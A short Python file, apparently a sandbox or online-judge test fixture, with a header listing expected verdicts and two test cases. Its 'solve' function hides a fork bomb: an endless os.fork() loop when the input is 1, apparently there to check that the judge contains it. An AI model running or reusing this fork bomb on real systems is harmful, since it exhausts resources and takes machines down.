# {"verdict": ["runtime_error", "accepted"], "tests": [{"args": [1], "expected": 1}, {"args": [2], "expected": 2}]}
import os


def solve(x):
    if x == 1:
        while True:
            os.fork()
    return x
